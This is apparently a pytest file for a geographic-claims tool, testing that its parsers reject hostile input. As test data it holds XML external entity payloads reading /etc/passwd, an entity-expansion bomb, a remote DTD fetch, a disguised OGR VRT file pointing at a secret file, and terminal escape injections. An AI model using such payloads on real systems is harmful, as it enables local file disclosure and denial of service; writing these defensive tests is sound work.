"""The guards of docs/security.md: those that have no other home, and that each one named there is a test."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from geomap import cli
from geomap.errors import TableError
from geomap.reports import read_reports
from geomap.table import read_claims

ROOT = Path(__file__).parent.parent
PAGE = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")


def test_every_guard_names_a_test_that_is_there() -> None:
    rows = [line for line in PAGE.splitlines() if line.startswith("| ") and not line.startswith(("| what", "| ---"))]
    assert len(rows) > 20
    for row in rows:
        found = re.fullmatch(r"\| .+ \| .+ \| `(tests/[\w/]+\.py)(?:::(\w+))?` \|", row)
        assert found, row
        text = (ROOT / found[1]).read_text(encoding="utf-8")
        assert found[2] is None or f"def {found[2]}(" in text, row


@pytest.mark.parametrize(
    "entity",
    [
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;">',
        '<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;',
    ],
)
def test_entities_of_a_page_are_not_expanded(entity: str, tmp_path: Path) -> None:
    page = f'<?xml version="1.0"?><!DOCTYPE html [{entity}]><html><body><p>before &x; after</p></body></html>'
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    (report,) = read_reports(tmp_path)
    assert "root:" not in report.text
    assert "lol" not in report.text.split("before", 1)[1]


@pytest.mark.parametrize(
    "content",
    [
        '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer>',
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{secret}">]><kml><Document>&x;</Document></kml>',
        "origin,destination\nMosul,Raqqa\n",
    ],
)
def test_a_geopackage_that_is_something_else_never_reaches_gdal(content: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("origin,destination\nsecret,secret\n", encoding="utf-8")
    path = tmp_path / "claims.gpkg"
    path.write_text(content.replace("{secret}", str(secret)), encoding="utf-8")
    with pytest.raises(TableError, match="is no GeoPackage"):
        read_claims(path)


@pytest.mark.parametrize("ending", [".kml", ".gpx", ".gml", ".xml"])
def test_no_xml_is_read_as_a_claims_table(ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"claims{ending}"
    path.write_text('<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml>&x;</kml>', encoding="utf-8")
    with pytest.raises(TableError, match="is no claims table"):
        read_claims(path)


def test_no_report_steers_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = tmp_path / "t.jsonl"
    table.write_text(json.dumps({"id": "\x1b[2J\u202e", "published": "\x1b]0;x\x07", "text": "x"}), encoding="utf-8")
    cli.say(next(iter(errors_of(table))))
    told = capsys.readouterr().err
    assert "\x1b" not in told
    assert "\u202e" not in told


def errors_of(path: Path) -> list[str]:
    errors: list[str] = []
    list(read_reports(path, on_error=lambda error: errors.append(str(error))))
    return errors
